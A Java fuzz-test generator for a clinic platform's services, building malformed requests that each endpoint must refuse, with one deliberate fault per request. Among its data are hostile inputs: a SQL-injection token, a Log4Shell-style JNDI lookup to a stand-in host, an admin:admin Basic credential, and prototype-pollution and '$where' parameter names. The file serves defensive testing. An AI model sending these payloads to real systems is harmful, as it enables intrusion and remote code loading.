package com.clinicnet.reliability.badinput;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.Supplier;
import java.util.function.ToIntFunction;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import com.clinicnet.platform.security.Role;
import com.clinicnet.testsupport.TestIdentityProvider;

import net.jqwik.api.sessions.JqwikSession;

/**
 * Generates requests that every service must refuse: each is an endpoint's base request (already aimed at something
 * that refuses it) with exactly one thing broken, so that the fuzzer knows which field a 400 must name; half of them
 * also carry hostile but valid noise (injection strings and odd unicode in free text, unknown fields and
 * parameters). Endpoints take turns, so each gets its share.
 */
final class BadRequests {

    /** What a request gets wrong, with how often it is chosen where it applies. */
    enum Fault {
        BODY_FIELD(40), WHOLE_BODY(12), CONTENT_TYPE(4), PATH(14), QUERY(35), HEADER(5), RULE(8), TOKEN(7),
        ROLE(7), METHOD(4);

        final int weight;

        Fault(int weight) {
            this.weight = weight;
        }
    }

    private static final List<String> NONSTANDARD_METHODS = List.of("FOO", "TRACE", "PROPFIND", "PATCH");
    private static final Pattern WELL_FORMED_NUMBER = Pattern.compile("\\d+");
    private static final Pattern WELL_FORMED_ID = Pattern.compile("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}|\\d{4}-\\d{2}-\\d{2}");
    private static final Pattern PLAIN_SEGMENT = Pattern.compile("[\\p{L}\\p{N} '\"<>(){}=*!,:@$#|`+\\-]+");

    private final List<Endpoint> endpoints;
    private final FuzzTargets targets;
    private final ToIntFunction<String> ports;
    private final Random random;

    BadRequests(List<Endpoint> endpoints, FuzzTargets targets, ToIntFunction<String> ports, long seed) {
        this.endpoints = endpoints;
        this.targets = targets;
        this.ports = ports;
        this.random = new Random(seed);
    }

    List<FuzzRequest> generate(int count) {
        List<FuzzRequest> requests = new ArrayList<>(count);
        // jqwik's arbitraries, used outside a property, need a session of their own
        JqwikSession.run(() -> {
            for (int i = 0; i < count; i++) {
                requests.add(next(endpoints.get(i % endpoints.size())));
            }
        });
        return requests;
    }

    private FuzzRequest next(Endpoint endpoint) {
        Draft draft = endpoint.draft(targets);
        if (random.nextBoolean()) {
            addNoise(draft);
        }
        switch (pick(applicable(endpoint))) {
            case BODY_FIELD -> BodyFaults.breakField(draft, random);
            case WHOLE_BODY -> BodyFaults.breakWhole(draft, random);
            case CONTENT_TYPE -> breakContentType(draft);
            case PATH -> breakPath(draft);
            case QUERY -> breakQuery(draft);
            case HEADER -> breakIdempotencyKey(draft);
            case RULE -> breakRule(draft);
            case TOKEN -> breakToken(draft);
            case ROLE -> callInTheWrongRole(draft);
            case METHOD -> callWithTheWrongMethod(draft);
        }
        return draft.freeze(ports);
    }

    private List<Fault> applicable(Endpoint endpoint) {
        return Arrays.stream(Fault.values()).filter(fault -> switch (fault) {
            case BODY_FIELD, WHOLE_BODY, CONTENT_TYPE -> endpoint.hasBody();
            case PATH -> !endpoint.pathParams().isEmpty();
            case QUERY -> endpoint.query().stream().anyMatch(param -> breakable(param.field()));
            case HEADER -> endpoint.idempotencyKey();
            case RULE -> !endpoint.ruleBreaks().isEmpty();
            case ROLE -> !endpoint.mayCall().isEmpty();
            case TOKEN, METHOD -> true;
        }).toList();
    }

    private Fault pick(List<Fault> faults) {
        int total = faults.stream().mapToInt(fault -> fault.weight).sum();
        int at = random.nextInt(total);
        for (Fault fault : faults) {
            at -= fault.weight;
            if (at < 0) {
                return fault;
            }
        }
        throw new IllegalStateException();
    }

    private void addNoise(Draft draft) {
        if (draft.body != null) {
            BodyFaults.addNoise(draft, random);
        }
        for (Endpoint.QueryParam param : draft.endpoint.query()) {
            if (param.field().kind() == Field.Kind.TEXT && random.nextBoolean()) {
                draft.query.put(param.field().name(), BodyFaults.harmlessButHostile(param.field(), random));
            }
        }
        if (random.nextInt(4) == 0) {
            draft.query.put(List.of("debug", "__proto__[admin]", "admin", "$where", "callback", "format")
                    .get(random.nextInt(6)), BodyFaults.harmlessButHostile(Field.text("", 40), random));
        }
    }

    private void breakContentType(Draft draft) {
        boolean none = random.nextInt(5) == 0;
        draft.contentType = none ? null : HostileValues.CONTENT_TYPES.from(random);
        draft.fault(none ? "no Content-Type" : "Content-Type " + draft.contentType, null);
    }

    private void breakPath(Draft draft) {
        List<String> names = List.copyOf(draft.path.keySet());
        String name = names.get(random.nextInt(names.size()));
        if (isFreeText(draft.path.get(name))) {
            // any text is a well-formed free-text variable (a signed link): only what the URL carries can be broken
            String encoded = HostileValues.ENCODED_ON_THE_WIRE.from(random);
            draft.path.put(name, encoded);
            draft.alreadyEncoded.add(name);
            draft.fault("bytes on the wire as " + name + ": " + encoded, null);
            return;
        }
        switch (random.nextInt(4)) {
            case 0 -> {
                draft.path.put(name, Field.randomId());
                draft.fault("a " + name + " that names nothing", null);
            }
            case 1 -> {
                String encoded = HostileValues.ENCODED_ON_THE_WIRE.from(random);
                draft.path.put(name, encoded);
                draft.alreadyEncoded.add(name);
                draft.fault("bytes on the wire as " + name + ": " + encoded, null);
            }
            default -> {
                // a path variable whose well-formed value is a number (a rank) is broken as a number, else as an id
                boolean numeric = WELL_FORMED_NUMBER.matcher(draft.path.get(name)).matches();
                String value = numeric
                        ? HostileValues.NOT_AN_INTEGER.get(random.nextInt(HostileValues.NOT_AN_INTEGER.size()))
                        : HostileValues.NOT_A_UUID.from(random);
                draft.path.put(name, value);
                // a value the URL itself changes (a slash, a dot segment, a NUL) may never reach the service's
                // parameter; a plain one must be named
                draft.fault((numeric ? "not a number as " : "not a UUID as ") + name + ": "
                        + FuzzRequest.shorten(value), PLAIN_SEGMENT.matcher(value).matches() ? name : null);
            }
        }
    }

    private static boolean isFreeText(String wellFormed) {
        return !WELL_FORMED_NUMBER.matcher(wellFormed).matches() && !WELL_FORMED_ID.matcher(wellFormed).matches();
    }

    private void breakQuery(Draft draft) {
        List<Endpoint.QueryParam> breakable = draft.endpoint.query().stream()
                .filter(param -> breakable(param.field())).toList();
        Field field = breakable.get(random.nextInt(breakable.size())).field();
        String name = field.name();
        if (field.isRequired() && random.nextInt(5) == 0) {
            draft.query.remove(name);
            draft.fault("no " + name, name);
            return;
        }
        String value = switch (field.kind()) {
            case UUID -> random.nextInt(4) == 0 ? Field.randomId() + "," + Field.randomId()
                    : nonBlank(HostileValues.NOT_A_UUID.from(random));
            case INTEGER -> field.hasRange() && random.nextBoolean()
                    ? String.valueOf(HostileValues.outOfRange(field.min(), field.max(), random))
                    : HostileValues.NOT_AN_INTEGER.get(random.nextInt(HostileValues.NOT_AN_INTEGER.size()));
            case PATTERN -> HostileValues.notMatching(Pattern.compile(field.pattern()), random);
            case INSTANT -> random.nextInt(4) == 0 ? unencodedPlus(draft, name)
                    : nonBlank(HostileValues.NOT_AN_INSTANT.from(random));
            case DATE -> nonBlank(HostileValues.NOT_A_DATE.from(random));
            case TEXT -> random.nextBoolean() ? HostileValues.tooLong(field.max(), 50, random)
                    : List.of("Lisbon\u0000", "\u0000", "\uD800", "Lisbon\uDC00").get(random.nextInt(4));
            default -> throw new IllegalStateException("cannot break " + field);
        };
        if (value != null) {
            draft.query.put(name, value);
        }
        draft.fault(field.kind() + " " + name + " broken: " + FuzzRequest.shorten(draft.query.get(name)), name);
    }

    /** A date-time whose '+' was not encoded, as a careless client sends it: the service reads a space. */
    private String unencodedPlus(Draft draft, String name) {
        draft.alreadyEncoded.add("?" + name);
        return "2031-01-06T10:00:00+01:00";
    }

    /** Spring reads a blank parameter as an absent one, which is fine: a blank is no fault. */
    private static String nonBlank(String value) {
        return value.isBlank() ? "soon" : value;
    }

    private static boolean breakable(Field field) {
        return field.kind() != Field.Kind.TEXT || field.max() > 0;
    }

    private void breakIdempotencyKey(Draft draft) {
        switch (random.nextInt(3)) {
            case 0 -> draft.headers.remove("Idempotency-Key");
            case 1 -> draft.headers.put("Idempotency-Key", List.of("", " ", "   ").get(random.nextInt(3)));
            default -> draft.headers.put("Idempotency-Key", "k".repeat(101 + random.nextInt(2_000)));
        }
        draft.fault("Idempotency-Key: " + FuzzRequest.shorten(String.valueOf(draft.headers.get("Idempotency-Key"))),
                "Idempotency-Key");
    }

    private void breakRule(Draft draft) {
        List<Map.Entry<String, Endpoint.RuleBreak>> rules = List.copyOf(draft.endpoint.ruleBreaks().entrySet());
        Map.Entry<String, Endpoint.RuleBreak> rule = rules.get(random.nextInt(rules.size()));
        rule.getValue().change().accept(draft);
        draft.fault(rule.getKey(), rule.getValue().field());
    }

    private void breakToken(Draft draft) {
        TestIdentityProvider identity = TestIdentityProvider.shared();
        String valid = draft.authorization;
        // suppliers: signing a token takes a while, so only the one chosen is made
        List<Supplier<String>> authorizations = List.of(() -> null, () -> "Bearer", () -> "Bearer ",
                () -> "Bearer not.a.jwt", () -> "Bearer " + identity.expired(),
                () -> "Bearer " + identity.fromAnotherIssuer(), () -> "Bearer " + identity.forAnotherAudience(),
                () -> "Bearer " + identity.unsigned(), () -> "Bearer " + identity.signedByAStranger(),
                () -> "Bearer " + identity.tampered(), () -> valid + "x", () -> valid + " extra",
                () -> "Basic YWRtaW46YWRtaW4=", () -> "Bearer ' OR 1=1 --", () -> "Bearer ${jndi:ldap://x.example/a}",
                () -> "Bearer " + "a".repeat(9_000));
        draft.authorization = authorizations.get(random.nextInt(authorizations.size())).get();
        draft.fault("Authorization: " + (draft.authorization == null ? "none"
                : FuzzRequest.shorten(draft.authorization.length() > 60
                        ? draft.authorization.substring(0, 60) + "…" : draft.authorization)), null);
    }

    private void callInTheWrongRole(Draft draft) {
        Set<Role> allowed = draft.endpoint.mayCall();
        List<Role> others = Arrays.stream(Role.values()).filter(role -> !allowed.contains(role)).toList();
        Role role = others.get(random.nextInt(others.size()));
        draft.authorization = "Bearer " + targets.stranger(role);
        draft.fault("called as " + role + " (only " + allowed.stream().map(Role::name).sorted()
                .collect(Collectors.joining(", ")) + " may)", null);
    }

    private void callWithTheWrongMethod(Draft draft) {
        Set<String> mapped = endpoints.stream()
                .filter(other -> other.service().equals(draft.endpoint.service())
                        && other.template().equals(draft.endpoint.template()))
                .map(Endpoint::method).collect(Collectors.toSet());
        List<String> unmapped = new ArrayList<>(List.of("GET", "POST", "PUT", "DELETE").stream()
                .filter(method -> !mapped.contains(method)).toList());
        unmapped.addAll(NONSTANDARD_METHODS.stream().filter(method -> !mapped.contains(method)).toList());
        draft.method = unmapped.get(random.nextInt(unmapped.size()));
        draft.fault(draft.method + " where only " + mapped.stream().sorted().collect(Collectors.joining(", "))
                + " is mapped", null);
    }
}
